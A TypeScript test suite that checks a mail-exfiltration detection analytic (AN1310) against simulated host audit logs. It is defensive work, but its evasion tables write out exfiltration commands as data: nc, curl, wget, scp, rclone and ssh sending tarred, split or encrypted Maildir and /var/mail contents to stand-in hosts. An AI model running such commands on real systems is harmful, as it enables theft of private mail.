import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Process, SYSTEM } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import {
  DAY,
  type Delivered,
  HOUR,
  HostLog,
  MINUTE,
} from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { atMostAt, firesAt, scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** Ways around AN1310 of which there is no recording, seen in full: each must alert. */
const OUT = '203.0.113.66';

interface Facts {
  readonly log: HostLog;
  readonly mine: Delivered;
  readonly other: Delivered;
  readonly shell: Process;
}

function mailHost(): Facts {
  const log = new HostLog();
  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
  log.service('/usr/sbin/chronyd').connect('198.51.100.1', 123);
  const mine = log.deliver();
  const other = log.deliver({ to: 'buyer' });
  log.shell('clerk').run('/usr/bin/mutt').read(mine.path);
  log.wait(MINUTE);
  return { log, mine, other, shell: log.shell('clerk') };
}

const EVASIONS: Readonly<Record<string, (facts: Facts) => void>> = {
  'tools under other names, six days apart, in two logins': ({ log, mine, shell }) => {
    shell.run('/home/clerk/bin/t cf /home/clerk/.a Maildir').write('/home/clerk/.a').read(mine.path);
    log.wait(6 * DAY);
    log.shell('clerk').run('/home/clerk/bin/upd /home/clerk/.a').read('/home/clerk/.a').connect(OUT, 443);
  },
  'an archive in an archive, encrypted, the first deleted': ({ log, mine, shell }) => {
    shell.run('/bin/tar cf /var/tmp/1 Maildir').write('/var/tmp/1').read(mine.path);
    log.wait(2 * DAY);
    shell.run('/usr/bin/zip /dev/shm/2 /var/tmp/1').read('/var/tmp/1').write('/dev/shm/2');
    shell.run('/bin/rm /var/tmp/1').unlink('/var/tmp/1');
    log.wait(3 * DAY);
    const later = log.shell('clerk');
    later.run('/usr/bin/gpg -c /dev/shm/2').read('/dev/shm/2').write('/dev/shm/2.gpg');
    const scp = later.run('/usr/bin/scp /dev/shm/2.gpg u@x:').read('/dev/shm/2.gpg');
    scp.run('/usr/bin/ssh x').connect(OUT, 22);
  },
  'objects of a version control system': ({ log, mine, shell }) => {
    const cwd = '/home/clerk/r';
    shell.run(`/bin/cp ${mine.path} r/m`).read(mine.path).write(`${cwd}/m`);
    shell.run('/usr/bin/git add .', { cwd }).read('m').write('.git/objects/ab/cdef');
    log.wait(MINUTE);
    const push = shell.run('/usr/bin/git push', { cwd });
    push.run('/usr/lib/git-core/git pack-objects').read('.git/objects/ab/cdef');
    push.run('/usr/lib/git-core/git-remote-https o https://x').connect(OUT, 443);
  },
  'a named pipe': ({ mine, shell }) => {
    shell.run(`/bin/cat ${mine.path}`).read(mine.path).write('/tmp/f');
    shell.run('/usr/bin/nc x 9').read('/tmp/f').connect(OUT, 9);
  },
  "another user's job the next day": ({ log, mine }) => {
    log.cron('clerk', 'cp').run(`/bin/cp ${mine.path} /srv/x/1`).read(mine.path).write('/srv/x/1');
    log.wait(DAY);
    log.cron('dev', 'up').run('/usr/bin/lftp -c put').read('/srv/x/1').connect(OUT, 21);
  },
  'a message moved out of the store by root, two days before': ({ log, other }) => {
    log.shell('root').run(`/bin/mv ${other.path} /root/.n`).rename(other.path, '/root/.n');
    log.wait(2 * DAY);
    log.shell('root').run('/usr/bin/curl -F f=@/root/.n http://x').read('/root/.n').connect(OUT, 443);
  },
  'busybox on both ends': ({ mine, shell }) => {
    const [tar, nc] = shell.pipeline('/bin/busybox tar c Maildir', '/bin/busybox nc x 9');
    tar?.read(mine.path);
    nc?.connect('2001:db8::66', 9);
  },
  'a program in memory': ({ mine, shell }) => {
    shell.run(['/proc/self/fd/3'], { exe: '/memfd:a (deleted)' }).read(mine.path).connect(OUT, 443);
  },
  'one message a day, each to another address': ({ log }) => {
    for (let day = 0; day < 8; day++) {
      log.wait(DAY);
      const message = log.deliver();
      log
        .cron('clerk', 'x')
        .run('/usr/bin/python3 .l/x.py')
        .read(message.path)
        .connect(`203.0.113.${70 + day}`, 443);
    }
  },
  'a follower of the spool': ({ shell }) => {
    const [tail, ssh] = shell.pipeline('/usr/bin/tail -F /var/mail/clerk', '/usr/bin/ssh u@x cat');
    tail?.read('/var/mail/clerk');
    ssh?.connect(OUT, 22);
  },
  'a program that bears the name of a backup': ({ mine, shell }) => {
    shell.run('/home/clerk/bin/restic backup /home/clerk').read(mine.path).connect(OUT, 443);
  },
  'a program that bears the name of a synchroniser of the desktop': ({ log, mine, shell }) => {
    const tool = shell.run('/home/clerk/.l/syncthing').read(mine.path);
    log.wait(2 * MINUTE);
    tool.connect(OUT, 22000);
  },
  'a program that bears the name of a viewer and takes its time': ({ log, mine, shell }) => {
    const tool = shell.run('/home/clerk/.l/evince').read(mine.path);
    log.wait(10 * MINUTE);
    tool.connect(OUT, 443);
  },
  'a fetch whose header is read from a file': ({ log, mine, shell }) => {
    const [cat, curl] = shell.pipeline(`/bin/cat ${mine.path}`, '/usr/bin/curl -o /dev/null -H @- http://x/');
    cat?.read(mine.path);
    log.wait(50);
    curl?.connect(OUT, 80);
  },
  'what setsid left behind, two hours later': ({ log, mine, shell }) => {
    const script = shell.run('/usr/bin/setsid -f sh x.sh').fork().orphan().exec('/bin/sh x.sh');
    script.run('/bin/tar czf /tmp/q Maildir').write('/tmp/q').read(mine.path);
    log.wait(2 * HOUR);
    script.run('/usr/bin/wget --post-file=/tmp/q http://x').read('/tmp/q').connect(OUT, 80);
  },
  'pieces to several places on several days': ({ log, mine, shell }) => {
    shell.run('/bin/tar czf /tmp/q Maildir').write('/tmp/q').read(mine.path);
    shell.run('/usr/bin/split -b1k /tmp/q /tmp/p.').read('/tmp/q').write('/tmp/p.aa').write('/tmp/p.ab');
    log.wait(DAY);
    shell.run('/usr/bin/curl -T /tmp/p.aa http://x').read('/tmp/p.aa').connect(OUT, 80);
    log.wait(DAY);
    const later = log.shell('clerk').run('/usr/bin/wget --post-file /tmp/p.ab http://y').read('/tmp/p.ab');
    later.connect('198.51.100.99', 80);
  },
  'a message by the name that it has in a mounted folder': ({ log, mine, shell }) => {
    const mounted = `/data/in/${mine.path.split('/').at(-1)}`;
    shell.records.move(mine.path, mounted);
    const shim = log.service('/usr/bin/containerd-shim-runc-v2');
    shim.run('/bin/tar cf /tmp/o /data').write('/tmp/o').read(mounted);
    shim.run('/usr/bin/curl -T /tmp/o http://x').read('/tmp/o').connect(OUT, 443);
  },
  'a box by the name of a link to it': ({ log, shell }) => {
    delivers(log);
    log.records.move('/var/mail/clerk', '/home/clerk/logs/today');
    shell.run('/usr/bin/node stat.js').read('/home/clerk/logs/today').connect(OUT, 8000);
  },
  'a script that hands each message to sendmail': ({ log, mine, shell }) => {
    const script = shell.run('/usr/bin/perl .c.pl').read(mine.path);
    log.wait(50);
    script.run('/usr/sbin/sendmail -f a@example.org b@drop.example.net');
  },
};

/** local(8) writes into the box of clerk, a file. */
function delivers(log: HostLog): void {
  const agent = log.records.nextPid();
  new Process(log.records, agent, 900, '/usr/lib/postfix/sbin/local', { ...SYSTEM, uid: 1003 }).write(
    '/var/mail/clerk',
  );
  log.wait(MINUTE);
}

test('the number of a box that is gone is no box any more', async () => {
  const notes = '/home/clerk/logs/today';
  for (const isTold of [true, false]) {
    const { log, shell } = mailHost();
    delivers(log);
    log.records.reuse(notes, log.records.node('/var/mail/clerk', 1003));
    if (isTold) shell.run('/usr/bin/rm /var/mail/clerk').unlink('/var/mail/clerk');
    else shell.run('/usr/bin/touch logs/today').write(notes);
    shell.run('/usr/bin/node stat.js').read(notes).connect(OUT, 8000);
    atMostAt(await scanLog(log), 'informational');
  }
});

test('what a shell, a program of a package or one without the mail starts is handed no mail', async () => {
  const { log, mine, shell } = mailHost();
  const installed = shell.run('/usr/bin/perl /usr/sbin/digest').read(mine.path);
  log.wait(5000);
  installed.run('/usr/sbin/sendmail b@drop.example.net');
  log.wait(5000);
  const script = shell.run('/bin/sh look.sh').read(mine.path);
  log.wait(5000);
  script.run('/usr/sbin/sendmail b@drop.example.net');
  log.wait(5000);
  const other = shell.run('/usr/bin/perl .c.pl');
  other.run('/usr/sbin/sendmail b@drop.example.net');
  atMostAt(
    (await scanLog(log)).filter(alert => alert.analytic === 'AN1310'),
    'informational',
  );
});

for (const [says, act] of Object.entries(EVASIONS))
  test(`mail is carried off by ${says}`, async () => {
    const facts = mailHost();
    act(facts);
    firesAt(await scanLog(facts.log), 'AN1310', 'medium');
  });

const POORER: Readonly<Record<string, (facts: Facts) => void>> = {
  'one pipeline, of which only the programs are recorded': ({ mine, shell }) => {
    shell.pipeline(`/bin/dd if=${mine.path}`, '/usr/bin/nc x 9');
  },
  'a copying tool that goes out by itself': ({ shell }) => {
    shell.run('/usr/bin/rclone copy Maildir far:');
  },
  'busybox in a pipeline': ({ shell }) => {
    shell.pipeline('/bin/busybox tar c Maildir', '/bin/busybox nc x 9');
  },
  'a message moved out and sent': ({ log, other }) => {
    const root = log.shell('root');
    root.run(`/bin/mv ${other.path} /root/.n`);
    log.wait(DAY);
    root.run('/usr/bin/curl -F f=@/root/.n http://x');
  },
};

for (const [says, act] of Object.entries(POORER))
  test(`mail is carried off by ${says}, with neither files nor connections recorded`, async () => {
    const log = new HostLog({ files: false, network: false });
    const mine = log.deliver();
    const other = log.deliver({ to: 'buyer' });
    log.wait(MINUTE);
    act({ log, mine, other, shell: log.shell('clerk') });
    firesAt(await scanLog(log), 'AN1310', 'medium');
  });

test('a transfer tool that reads the store itself, with no connections recorded', async () => {
  const log = new HostLog({ network: false });
  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
  const mine = log.deliver();
  log.shell('clerk').run('/usr/bin/mutt').read(mine.path);
  log.shell('clerk').run('/usr/bin/rsync -a Maildir u@far.example.net:m').read(mine.path);
  firesAt(await scanLog(log), 'AN1310', 'medium');
  const local = new HostLog({ network: false });
  local.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
  const again = local.deliver();
  local.shell('clerk').run('/usr/bin/mutt').read(again.path);
  local.shell('clerk').run('/usr/bin/rsync -a Maildir /mnt/disk').read(again.path);
  atMostAt(await scanLog(local), 'informational');
});

test('a whole spool that is named in arguments is read, where no reads are recorded: packed to an upload, by another tool, listed', async () => {
  for (const [pack, told] of [
    ['/usr/bin/tar cz /var/mail', true],
    ['/usr/bin/pax -w /var/spool/mail/', true],
    ['/usr/bin/ls -l /var/mail', false],
    ['/usr/bin/tar cz /var/mailman', false],
  ] as const) {
    const log = new HostLog({ files: false, network: false });
    log.shell('ops').run(['/bin/sh', '-c', 'x']).pipeline(pack, `/usr/bin/curl -s -T - http://${OUT}/v`);
    const alerts = (await scanLog(log)).filter(alert => alert.analytic === 'AN1310');
    assert.deepEqual(
      alerts.map(alert => alert.severity),
      told ? ['medium'] : [],
      pack,
    );
  }
});

test('where only opened files are recorded, a tool that has no use but to send tells that mail left, and a copying one does not', async () => {
  for (const [tool, severity] of [
    ['/usr/bin/lftp', 'medium'],
    ['/usr/bin/scp', 'medium'],
    ['/usr/bin/rsync', 'informational'],
    ['/usr/bin/less', 'informational'],
  ] as const) {
    const log = new HostLog({ network: false });
    const who = { uid: 1001, auid: 1001, ses: 9, tty: 'pts0' };
    const { path } = log.deliver();
    const program = (exe: string, pid: number): Process => new Process(log.records, pid, 4000, exe, who);
    program('/usr/bin/zpaq', 5001).write('/dev/shm/.x').read(path);
    log.wait(MINUTE);
    program(tool, 5002).read('/dev/shm/.x');
    const told = (await scanLog(log)).filter(alert => alert.analytic === 'AN1310');
    assert.deepEqual(
      told.map(alert => alert.severity),
      [severity],
      tool,
    );
    assert.ok(
      told[0]?.missing.includes(
        'This host records neither connections nor process executions: where the data went is not known.',
      ),
      tool,
    );
  }
});

/** What sudo of `shell` starts as root reads the message; the shell opened `output` for it before, sudo a list of sessions after. */
function elevated({ log, other, shell }: Facts, output: string): void {
  const sudo = shell.fork();
  if (output !== '') sudo.write(output);
  log.wait(5);
  sudo.exec(`/usr/bin/sudo cat ${other.path}`).write('/run/utmp');
  log.wait(50);
  sudo.run(`/usr/bin/cat ${other.path}`).read(other.path);
  log.wait(1000);
}

test('a list of sessions that sudo keeps holds no mail, the output that its shell opened does', async () => {
  const facts = mailHost();
  elevated(facts, '');
  facts.log.wait(MINUTE);
  facts.log.shell('ops').run('/usr/bin/python3 who.py').read('/run/utmp').connect(OUT, 443);
  atMostAt(await scanLog(facts.log), 'informational');
  const again = mailHost();
  elevated(again, '/tmp/y');
  again.log.wait(MINUTE);
  again.log.shell('ops').run('/usr/bin/python3 who.py').read('/tmp/y').connect(OUT, 443);
  firesAt(await scanLog(again.log), 'AN1310', 'medium');
});

test('the server of a session asks for its own addresses: nothing leaves by that', async () => {
  const { log, mine, other } = mailHost();
  const who = { ...SYSTEM, auid: 1003, ses: 77 };
  const session = new Process(log.records, log.records.nextPid(), 700, '/usr/sbin/sshd', who).exec('/usr/sbin/sshd -R');
  session.connect('0.0.0.0', 22);
  session.run('/usr/bin/python3 -').read(mine.path).read(other.path).connect(OUT, 443);
  const alert = firesAt(await scanLog(log), 'AN1310', 'medium');
  assert.deepEqual(
    alert.entities.filter(({ kind }) => kind === 'address').map(({ value }) => value),
    [`${OUT}:443`],
  );
});
